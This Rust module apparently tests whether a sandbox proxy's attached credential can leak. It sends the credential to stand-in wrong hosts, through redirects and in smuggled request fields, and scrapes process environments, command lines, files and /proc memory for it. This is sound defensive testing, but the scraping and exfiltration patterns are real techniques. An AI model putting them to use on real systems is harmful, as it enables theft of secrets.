//! Attempts on a credential that the proxy attaches: search for it, send it to a wrong host, and have it echoed.

use std::fs;
use std::io::{Read as _, Seek as _, SeekFrom};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::client::{RawClient, connect_tls, request_http1};
use super::{AttemptResult, EgressTargets, ProbeAttempt, new_attempt, summarize_answer};

/// The most bytes of one file that are searched; a second limit bounds the total.
const MAX_PART_BYTES: usize = 8 << 20;
const MAX_SEARCHED_BYTES: usize = 48 << 20;

/// What an attempt knows of the credential.
#[derive(Clone)]
struct KnownCredential {
    client: RawClient,
    /// The placeholder of the credential in this run.
    here: String,
    stale: String,
    backwards: Vec<u8>,
}

impl KnownCredential {
    /// Whether `bytes` contain the credential itself, forwards or inside base64 words.
    fn is_contained_in(&self, bytes: &[u8]) -> bool {
        let plain = |bytes: &[u8]| {
            bytes
                .windows(self.backwards.len())
                .any(|window| window.iter().rev().eq(self.backwards.iter()))
        };
        let word = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/=".contains(byte);
        let encoded = || {
            bytes
                .split(|byte| !word(byte))
                .filter(|word| word.len() > 12)
                .any(|word| STANDARD.decode(word).is_ok_and(|decoded| plain(&decoded)))
        };
        !self.backwards.is_empty() && (plain(bytes) || encoded())
    }

    fn judge_answer(&self, answer: std::io::Result<Vec<u8>>) -> AttemptResult {
        match answer {
            Err(error) => AttemptResult::Refused(error),
            Ok(bytes) if self.is_contained_in(&bytes) => {
                AttemptResult::Succeeded("the credential came back".to_owned())
            }
            Ok(bytes) => AttemptResult::WithoutEffect(summarize_answer(&String::from_utf8_lossy(&bytes))),
        }
    }
}

pub(super) fn attempts(id: u16, aims: &EgressTargets) -> Vec<ProbeAttempt> {
    #[expect(clippy::disallowed_methods, reason = "an attacker reads whatever there is")]
    let here = std::env::var(&aims.variable).unwrap_or_default();
    let known = KnownCredential {
        client: RawClient::new(aims),
        here,
        stale: aims.stale.clone(),
        backwards: aims.backwards.clone().into_bytes(),
    };
    let bearer = |word: &str| format!("Authorization: Bearer {word}\r\n");
    match id {
        129 => vec![credential_attempt("as a file's name and content", &known, store_echo)],
        131 => vec![credential_attempt("said aloud", &known, print_credential)],
        132 => search_attempts(&known),
        133 => wrong_host_attempts(&known),
        134 => echo_attempts(&known),
        135 => wrong_place_attempts(&known),
        136 => vec![credential_attempt("follows with its header", &known, follow_redirect)],
        137 => vec![
            plain_attempt("Bearer", &known, id, bearer(&known.here)),
            plain_attempt("raw", &known, id, format!("Authorization: {}\r\n", known.here)),
        ],
        138 => vec![
            tls_attempt("with TLS", &known, id, String::new()),
            plain_attempt("plain", &known, id, String::new()),
        ],
        139 => {
            let stale = bearer(&known.stale);
            vec![tls_attempt("of a run that is over", &known, id, stale)]
        }
        _ => Vec::new(),
    }
}

fn credential_attempt(
    part: &str,
    known: &KnownCredential,
    act: impl FnOnce(&KnownCredential) -> AttemptResult + 'static,
) -> ProbeAttempt {
    let known = known.clone();
    new_attempt(part, move || act(&known))
}

/// Sends `GET /echo` to the right host with TLS.
fn get_echo(known: &KnownCredential, path: &str, more: &str) -> std::io::Result<Vec<u8>> {
    let stream = known.client.open_tunnel(b"keyed.example.com:443")?;
    request_http1(
        &mut connect_tls(stream, "keyed.example.com", "http/1.1")?,
        "keyed.example.com",
        path,
        more,
    )
}

fn tls_attempt(part: &str, known: &KnownCredential, id: u16, more: String) -> ProbeAttempt {
    credential_attempt(part, known, move |known| {
        known.judge_answer(get_echo(known, &format!("/echo/{id}"), &more))
    })
}

fn plain_attempt(part: &str, known: &KnownCredential, id: u16, more: String) -> ProbeAttempt {
    credential_attempt(part, known, move |known| {
        let url = format!("http://keyed.example.com/echo/{id}");
        known.judge_answer(known.client.get(&url, &more))
    })
}

/// Stores the echo of the right host in a file.
fn store_echo(known: &KnownCredential) -> AttemptResult {
    let answer = get_echo(known, "/echo", &format!("Authorization: Bearer {}\r\n", known.here)).unwrap_or_default();
    let text = String::from_utf8_lossy(&answer).into_owned();
    let name: String = text
        .chars()
        .filter(char::is_ascii_alphanumeric)
        .rev()
        .take(200)
        .collect();
    let name: String = name.chars().rev().collect();
    match fs::write(format!("kept-{name}"), text) {
        Ok(()) => AttemptResult::WithoutEffect("kept".to_owned()),
        Err(error) => AttemptResult::Refused(error),
    }
}

/// Prints the echo in the program's output, and the placeholder as well, for the next run.
fn print_credential(known: &KnownCredential) -> AttemptResult {
    let answer = get_echo(known, "/echo", &format!("Authorization: Bearer {}\r\n", known.here));
    let text = answer.map(|bytes| String::from_utf8_lossy(&bytes).into_owned());
    AttemptResult::WithoutEffect(format!("{text:?}"))
}

fn echo_attempts(known: &KnownCredential) -> Vec<ProbeAttempt> {
    let basic = STANDARD.encode(format!("user:{}", known.here));
    let token = STANDARD.encode(format!("{}:", known.here));
    [
        ("Bearer", format!("Authorization: Bearer {}\r\n", known.here)),
        ("token", format!("Authorization: token {}\r\n", known.here)),
        ("raw", format!("Authorization: {}\r\n", known.here)),
        ("Basic, as password", format!("Authorization: Basic {basic}\r\n")),
        ("Basic, as user", format!("Authorization: Basic {token}\r\n")),
    ]
    .into_iter()
    .map(|(part, header)| tls_attempt(part, known, 134, header))
    .collect()
}

fn wrong_host_attempts(known: &KnownCredential) -> Vec<ProbeAttempt> {
    let header = format!("Authorization: Bearer {}\r\n", known.here);
    let other = |part: &str, host: &'static str, header: String| {
        credential_attempt(part, known, move |known| {
            let target = format!("{host}:443");
            let asked = known.client.open_tunnel(target.as_bytes()).and_then(|stream| {
                request_http1(&mut connect_tls(stream, host, "http/1.1")?, host, "/echo/133", &header)
            });
            known.judge_answer(asked)
        })
    };
    let http = header.clone();
    let basic = format!(
        "Authorization: Basic {}\r\n",
        STANDARD.encode(format!("user:{}", known.here))
    );
    vec![
        other("Bearer", "allowed.example.com", header.clone()),
        other("Basic", "allowed.example.com", basic),
        other("a name below", "x.wild.example.com", header),
        credential_attempt("plain", known, move |known| {
            known.judge_answer(known.client.get("http://allowed.example.com/echo/133", &http))
        }),
    ]
}

fn wrong_place_attempts(known: &KnownCredential) -> Vec<ProbeAttempt> {
    let here = known.here.clone();
    let body =
        |kind: &str, body: String| format!("Content-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}", body.len());
    let multipart = format!("--b\r\nContent-Disposition: form-data; name=\"k\"\r\n\r\n{here}\r\n--b--");
    let tries = [
        ("the path", format!("/echo/135/{here}"), String::new()),
        ("the query", format!("/echo/135?key={here}"), String::new()),
        ("another header", "/echo/135".to_owned(), format!("X-Other: {here}\r\n")),
        ("a cookie", "/echo/135".to_owned(), format!("Cookie: k={here}\r\n")),
        ("the body", "/echo/135".to_owned(), body("text/plain", here.clone())),
        (
            "a part of the body",
            "/echo/135".to_owned(),
            body("multipart/form-data; boundary=b", multipart),
        ),
        (
            "base64 in the body",
            "/echo/135".to_owned(),
            body("text/plain", STANDARD.encode(&here)),
        ),
    ];
    tries
        .into_iter()
        .map(|(part, path, more)| {
            credential_attempt(part, known, move |known| {
                known.judge_answer(get_echo(known, &path, &more))
            })
        })
        .collect()
}

/// Follows a redirect of the right host, and sends the header along.
fn follow_redirect(known: &KnownCredential) -> AttemptResult {
    let header = format!("Authorization: Bearer {}\r\n", known.here);
    let first = get_echo(known, "/redirect?https://allowed.example.com/echo/136", &header);
    let led = first.is_ok_and(|bytes| String::from_utf8_lossy(&bytes).contains("allowed.example.com/echo/136"));
    if !led {
        return AttemptResult::Refused(std::io::Error::other("it was not led anywhere"));
    }
    let stream = known.client.open_tunnel(b"allowed.example.com:443");
    let asked = stream.and_then(|stream| {
        let mut stream = connect_tls(stream, "allowed.example.com", "http/1.1")?;
        request_http1(&mut stream, "allowed.example.com", "/echo/136", &header)
    });
    known.judge_answer(asked)
}

/// Searches everything that can be read here.
fn search_attempts(known: &KnownCredential) -> Vec<ProbeAttempt> {
    vec![
        credential_attempt("environments and command lines", known, |known| {
            let own = std::env::vars_os()
                .map(|(name, value)| [name.as_encoded_bytes(), b"=", value.as_encoded_bytes()].concat());
            let mut texts: Vec<Vec<u8>> = own.collect();
            for pid in list_processes() {
                for file in ["environ", "cmdline", "status", "mountinfo"] {
                    texts.extend(fs::read(format!("/proc/{pid}/{file}")));
                }
            }
            judge_found(texts.iter().any(|text| known.is_contained_in(text)))
        }),
        credential_attempt("files", known, |known| {
            let places = ["/workspace", "/tmp", "/run", "/etc", "/dev/shm", "/var", "."];
            let mut left = MAX_SEARCHED_BYTES;
            judge_found(places.iter().any(|place| search_folder(known, place, 4, &mut left)))
        }),
        credential_attempt("memory", known, |known| {
            let mut left = MAX_SEARCHED_BYTES;
            judge_found(list_processes().iter().any(|pid| search_memory(known, *pid, &mut left)))
        }),
    ]
}

fn judge_found(found: bool) -> AttemptResult {
    if found {
        AttemptResult::Succeeded("the credential was found".to_owned())
    } else {
        AttemptResult::WithoutEffect("nowhere".to_owned())
    }
}

/// Processes in the same network namespace: in a sandbox these are all processes.
fn list_processes() -> Vec<i32> {
    let net = |pid: &str| fs::read_link(format!("/proc/{pid}/ns/net")).ok();
    let own = net("self");
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    let names = entries.filter_map(|entry| entry.file_name().to_str().map(str::to_owned));
    names
        .filter(|name| net(name) == own)
        .filter_map(|name| name.parse().ok())
        .collect()
}

fn search_folder(known: &KnownCredential, folder: &str, depth: usize, left: &mut usize) -> bool {
    let entries = fs::read_dir(folder).into_iter().flatten().flatten();
    entries.into_iter().any(|entry| {
        let path = entry.path();
        let text = path.to_string_lossy().into_owned();
        match entry.file_type() {
            Ok(kind) if kind.is_dir() => depth > 0 && search_folder(known, &text, depth - 1, left),
            Ok(kind) if kind.is_file() => {
                let mut bytes = Vec::new();
                let most = MAX_PART_BYTES.min(*left) as u64;
                // An unreadable file holds nothing for a program that cannot read it.
                let _ = fs::File::open(&path).and_then(|file| file.take(most).read_to_end(&mut bytes));
                *left -= bytes.len().min(*left);
                known.is_contained_in(text.as_bytes()) || known.is_contained_in(&bytes)
            }
            _ => false,
        }
    })
}

/// Whether the readable memory of another process, or of this one, holds the credential. The search word itself is
/// backwards.
fn search_memory(known: &KnownCredential, pid: i32, left: &mut usize) -> bool {
    let Ok(maps) = fs::read_to_string(format!("/proc/{pid}/maps")) else {
        return false;
    };
    let Ok(mut memory) = fs::File::open(format!("/proc/{pid}/mem")) else {
        return false;
    };
    maps.lines().filter(|line| line.contains(" rw")).any(|line| {
        let range = line.split(' ').next().and_then(|range| range.split_once('-'));
        let number = |text: &str| u64::from_str_radix(text, 16).ok();
        let Some((Some(from), Some(to))) = range.map(|(from, to)| (number(from), number(to))) else {
            return false;
        };
        let length = usize::try_from(to - from)
            .unwrap_or(MAX_PART_BYTES)
            .min(MAX_PART_BYTES)
            .min(*left);
        *left -= length;
        let mut bytes = vec![0; length];
        let read = memory
            .seek(SeekFrom::Start(from))
            .and_then(|_| memory.read_exact(&mut bytes));
        read.is_ok() && known.is_contained_in_plain(&bytes)
    })
}

impl KnownCredential {
    /// As [`KnownCredential::is_contained_in`], without decoding base64 words.
    fn is_contained_in_plain(&self, bytes: &[u8]) -> bool {
        let Some(first) = self.backwards.last() else {
            return false;
        };
        let places = bytes.iter().enumerate().filter(|(_, byte)| *byte == first);
        places
            .filter_map(|(at, _)| bytes.get(at..at + self.backwards.len()))
            .any(|window| window.iter().rev().eq(self.backwards.iter()))
    }
}
